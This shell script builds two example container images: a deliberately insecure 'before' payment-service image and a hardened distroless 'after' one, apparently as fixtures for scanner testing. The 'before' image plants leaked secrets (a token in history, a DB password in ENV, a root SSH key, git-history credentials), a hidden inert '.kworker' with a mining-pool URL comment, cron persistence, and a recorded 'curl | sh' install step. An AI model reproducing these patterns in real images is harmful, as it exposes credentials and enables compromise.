#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Makes the two example images from real files of this machine, without a registry or an engine:
#   OUT/before.tar   docker-archive, as `docker save` writes it
#   OUT/after.tar    OCI archive, gzip layers
# Base: the files of installed Debian packages, with their package database. On a machine without dpkg: a small root
# with a database of its own. The times in both images are fixed; keys and tokens are made at random.
# usage: mkimage.sh OUT
set -eu
LC_ALL=C
export LC_ALL
here=$(cd "$(dirname "$0")" && pwd)
mkdir -p "$1"
out=$(cd "$1" && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT INT TERM
epoch=1690000000
arch=$(uname -m | sed 's/x86_64/amd64/; s/aarch64/arm64/')

random_word() { # LENGTH: letters and digits
	od -An -v -tx1 -N "$1" /dev/urandom | tr -d ' \n' | cut -c "1-$1"
}

# ---- package files ----

installed() { # packages of the arguments that this machine has
	for p in "$@"; do
		[ "$(dpkg-query -W -f '${db:Status-Status}' "$p" 2>/dev/null)" = installed ] && echo "$p"
	done
	return 0
}

list_of() { # PACKAGE: its .list file
	for l in "/var/lib/dpkg/info/$1.list" "/var/lib/dpkg/info/$1:$arch.list"; do
		[ -f "$l" ] && echo "$l" && return
	done
	return 0
}

copy_package() { # PACKAGE ROOT: its files, without manuals and translations, and its list
	list=$(list_of "$1")
	[ -n "$list" ] || return 0
	sed -E 's|^/(bin\|sbin\|lib\|lib64)(/\|$)|/usr/\1\2|' "$list" |
		grep -vE '^/\.?$|^/usr/share/(man|info|locale|lintian|bug|zoneinfo)|^/usr/share/doc/.*/(changelog|NEWS|examples|README)' |
		sed 's|^/||' >"$work/files"
	(cd / && tar --no-recursion --ignore-failed-read -cf - -T "$work/files" 2>/dev/null) | tar -C "$2" -xf - 2>/dev/null || true
	cp "$list" "$2/var/lib/dpkg/info/"
}

stanza_of() { # PACKAGE [VERSION]: its block of the status file, in that version
	dpkg-query -s "$1" | awk -v v="${2:-}" '{ if (v != "" && /^Version: /) print "Version: " v; else print } END { print "" }'
}

new_root() { # ROOT
	mkdir -p "$1/usr/bin" "$1/usr/sbin" "$1/usr/lib" "$1/usr/lib64" "$1/etc" "$1/var/lib/dpkg/info" "$1/tmp" "$1/root"
	for d in bin sbin lib lib64; do ln -s "usr/$d" "$1/$d"; done
	chmod 1777 "$1/tmp"
	printf 'root:x:0:0:root:/root:/bin/bash\n' >"$1/etc/passwd"
}

os_release() { # ROOT
	mkdir -p "$1/usr/lib"
	cat >"$1/usr/lib/os-release" <<'END'
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
END
	ln -sf ../usr/lib/os-release "$1/etc/os-release"
}

# ---- layers ----

n_layers=0
layer() { # DIR "instruction": a layer of what is in DIR; remembers digest and history
	n_layers=$((n_layers + 1))
	tar --sort=name --mtime="@$epoch" --owner=0 --group=0 --numeric-owner --format=gnu -C "$1" -cf "$work/layer" .
	diff=$(sha256sum "$work/layer" | cut -d ' ' -f 1)
	diff_ids="${diff_ids:+$diff_ids,}\"sha256:$diff\""
	history="${history:+$history,}{\"created\":\"2023-07-22T04:26:40Z\",\"created_by\":\"$2\"}"
	if [ "$kind" = docker ]; then
		mkdir -p "$work/archive/$diff"
		mv "$work/layer" "$work/archive/$diff/layer.tar"
		layers="${layers:+$layers,}\"$diff/layer.tar\""
	else
		gzip -n -6 "$work/layer"
		blob=$(sha256sum "$work/layer.gz" | cut -d ' ' -f 1)
		size=$(wc -c <"$work/layer.gz")
		mv "$work/layer.gz" "$work/archive/blobs/sha256/$blob"
		layers="${layers:+$layers,}{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\"sha256:$blob\",\"size\":$size}"
	fi
	rm -rf "$1"
}

note() { # "instruction" that changed the configuration only
	history="${history:+$history,}{\"created\":\"2023-07-22T04:26:40Z\",\"created_by\":\"$1\",\"empty_layer\":true}"
}

begin() { # docker|oci
	kind=$1 diff_ids='' history='' layers='' n_layers=0
	rm -rf "$work/archive"
	mkdir -p "$work/archive/blobs/sha256"
}

config() { # JSON of the config object
	printf '{"architecture":"%s","os":"linux","created":"2023-07-22T04:26:40Z","config":%s,"rootfs":{"type":"layers","diff_ids":[%s]},"history":[%s]}' \
		"$arch" "$1" "$diff_ids" "$history"
}

# ---- before ----

begin docker
root=$work/base
new_root "$root"
os_release "$root"
if command -v dpkg-query >/dev/null; then
	base=$(installed base-files base-passwd bash coreutils dash debianutils dpkg apt grep gzip libc6 libc-bin libtinfo6 \
		libssl3 openssl perl-base sed tar zlib1g liblzma5 xz-utils libzstd1 libexpat1 libsqlite3-0 util-linux mawk)
	for p in $base; do copy_package "$p" "$root"; done
	# what a base image of July 2023 said of the packages that matter most
	for p in $base; do
		case $p in
		libc6 | libc-bin) stanza_of "$p" 2.36-9+deb12u1 ;;
		libssl3 | openssl) stanza_of "$p" 3.0.9-1 ;;
		libexpat1) stanza_of "$p" 2.5.0-1 ;;
		*) stanza_of "$p" ;;
		esac
	done >"$root/var/lib/dpkg/status"
	tools=$(installed curl libcurl4 wget git make netcat-openbsd openssh-server openssh-client gcc)
else
	base= tools=
	printf 'Package: libc6\nStatus: install ok installed\nSource: glibc\nVersion: 2.36-9+deb12u1\nArchitecture: %s\n\n' "$arch" \
		>"$root/var/lib/dpkg/status"
	cp /bin/sh "$root/usr/bin/sh"
fi
os_release "$root"
cp "$root/var/lib/dpkg/status" "$work/status"
layer "$root" '/bin/sh -c #(nop) ADD file:bookworm in / '
note '/bin/sh -c #(nop)  CMD [\"bash\"]'

token=ghp_$(random_word 36)
root=$work/tools
mkdir -p "$root/var/lib/dpkg/info" "$root/var/cache/apt/archives" "$root/usr/bin"
for p in $tools; do
	case $p in gcc) ;; *) copy_package "$p" "$root" ;; esac
	case $p in
	openssh-server | openssh-client) stanza_of "$p" 1:9.2p1-2 ;;
	curl | libcurl4) stanza_of "$p" 7.88.1-10+deb12u1 ;;
	*) stanza_of "$p" ;;
	esac
done >>"$work/status"
cp "$work/status" "$root/var/lib/dpkg/status"
layer "$root" "|1 GITHUB_TOKEN=$token /bin/sh -c apt-get install -y curl wget vim netcat-openbsd openssh-server gcc make python3 supervisor"
note '/bin/sh -c #(nop)  ENV DB_PASSWORD=pa55-Winter2023-lemon'

root=$work/app
mkdir -p "$root/app/logs" "$root/root/.ssh"
cp "$here"/app/* "$here/before/Dockerfile" "$root/app/"
if command -v openssl >/dev/null; then
	openssl genrsa -traditional -out "$root/root/.ssh/id_rsa" 2048 2>/dev/null || openssl genrsa -out "$root/root/.ssh/id_rsa" 2048 2>/dev/null
fi
if command -v git >/dev/null; then
	(
		cd "$root/app"
		export GIT_AUTHOR_NAME=payments GIT_AUTHOR_EMAIL=payments@example.com GIT_AUTHOR_DATE="$epoch +0000"
		export GIT_COMMITTER_NAME=payments GIT_COMMITTER_EMAIL=payments@example.com GIT_COMMITTER_DATE="$epoch +0000"
		git init -q -b main .
		printf 'host=10.20.30.40\nuser=payments\npassword=Autumn-%s\n' "$(random_word 16)" >db.conf
		git add . && git commit -qm 'payment service'
		git rm -q db.conf && git commit -qm 'take the password out'
	) || true
fi
printf '{"event":"payment","amount":1250,"currency":"EUR"}\n' >"$root/app/logs/payment.log"
layer "$root" '/bin/sh -c #(nop) ADD dir:payment in /app '

root=$work/removed
mkdir -p "$root/app" "$root/root"
: >"$root/app/.wh..git"
: >"$root/root/.wh..ssh"
layer "$root" '/bin/sh -c rm -rf /root/.ssh /app/.git'

root=$work/agent
mkdir -p "$root/usr/local/bin" "$root/etc/cron.d"
printf '#!/bin/sh\n# stand-in for an implant: does nothing\n# pool: stratum+tcp://pool.example.com:3333 --donate-level 1\nexit 0\n' >"$root/usr/local/bin/.kworker"
chmod 755 "$root/usr/local/bin/.kworker"
printf '* * * * * root /usr/local/bin/.kworker\n' >"$root/etc/cron.d/sysupdate"
layer "$root" '/bin/sh -c curl -k https://tools.example.com/install-agent.sh | sh'
note '/bin/sh -c #(nop)  EXPOSE 22 8080'

config '{"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","DB_HOST=10.20.30.40","DB_PASSWORD=pa55-Winter2023-lemon"],"Cmd":["/bin/sh","-c","/usr/sbin/sshd && node server.js >> /app/logs/payment.log 2>&1"],"ExposedPorts":{"22/tcp":{},"8080/tcp":{}},"WorkingDir":"/app"}' >"$work/config"
id=$(sha256sum "$work/config" | cut -d ' ' -f 1)
rmdir "$work/archive/blobs/sha256" "$work/archive/blobs"
mv "$work/config" "$work/archive/$id.json"
printf '[{"Config":"%s.json","RepoTags":["registry.example.com/payment-service:latest"],"Layers":[%s]}]' "$id" "$layers" >"$work/archive/manifest.json"
tar --sort=name --mtime="@$epoch" --owner=0 --group=0 --numeric-owner -C "$work/archive" -cf "$out/before.tar" .

# ---- after ----

begin oci
root=$work/base
mkdir -p "$root/etc" "$root/usr/lib" "$root/tmp" "$root/home/nonroot" "$root/var/lib/dpkg/status.d" "$root/var/lib/dpkg/info"
for d in bin sbin lib lib64; do mkdir -p "$root/usr/$d" && ln -s "usr/$d" "$root/$d"; done
chmod 1777 "$root/tmp"
printf 'root:x:0:0:root:/root:/sbin/nologin\nnonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin\n' >"$root/etc/passwd"
if command -v dpkg-query >/dev/null; then
	for p in $(installed base-files libc6 libssl3 zlib1g ca-certificates tzdata); do
		copy_package "$p" "$root"
		stanza_of "$p" | grep -v '^Status: ' >"$root/var/lib/dpkg/status.d/$p"
		md5=/var/lib/dpkg/info/$p.md5sums
		[ -f "$md5" ] || md5=/var/lib/dpkg/info/$p:$arch.md5sums
		[ -f "$md5" ] && cp "$md5" "$root/var/lib/dpkg/status.d/$p.md5sums"
	done
else
	printf 'Package: base-files\nVersion: 12.4+deb12u12\nArchitecture: %s\n' "$arch" >"$root/var/lib/dpkg/status.d/base-files"
fi
rm -rf "$root/var/lib/dpkg/info"
os_release "$root"
layer "$root" 'distroless base'
note 'USER 65532:65532'

root=$work/app
mkdir -p "$root/app"
cp "$here/app/server.js" "$here/app/package.json" "$root/app/"
layer "$root" 'COPY /app /app # buildkit'
note 'CMD [\"server.js\"]'

config '{"User":"65532:65532","Env":["PATH=/nodejs/bin:/usr/bin","NODE_ENV=production"],"Entrypoint":["/nodejs/bin/node"],"Cmd":["server.js"],"WorkingDir":"/app","ExposedPorts":{"8080/tcp":{}},"Healthcheck":{"Test":["CMD","/nodejs/bin/node","-e","0"]}}' >"$work/config"
id=$(sha256sum "$work/config" | cut -d ' ' -f 1)
size=$(wc -c <"$work/config")
mv "$work/config" "$work/archive/blobs/sha256/$id"
printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:%s","size":%s},"layers":[%s]}' "$id" "$size" "$layers" >"$work/manifest"
m=$(sha256sum "$work/manifest" | cut -d ' ' -f 1)
size=$(wc -c <"$work/manifest")
mv "$work/manifest" "$work/archive/blobs/sha256/$m"
printf '{"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:%s","size":%s,"annotations":{"org.opencontainers.image.ref.name":"1.2.0"},"platform":{"architecture":"%s","os":"linux"}}]}' "$m" "$size" "$arch" >"$work/archive/index.json"
printf '{"imageLayoutVersion":"1.0.0"}' >"$work/archive/oci-layout"
tar --sort=name --mtime="@$epoch" --owner=0 --group=0 --numeric-owner -C "$work/archive" -cf "$out/after.tar" .
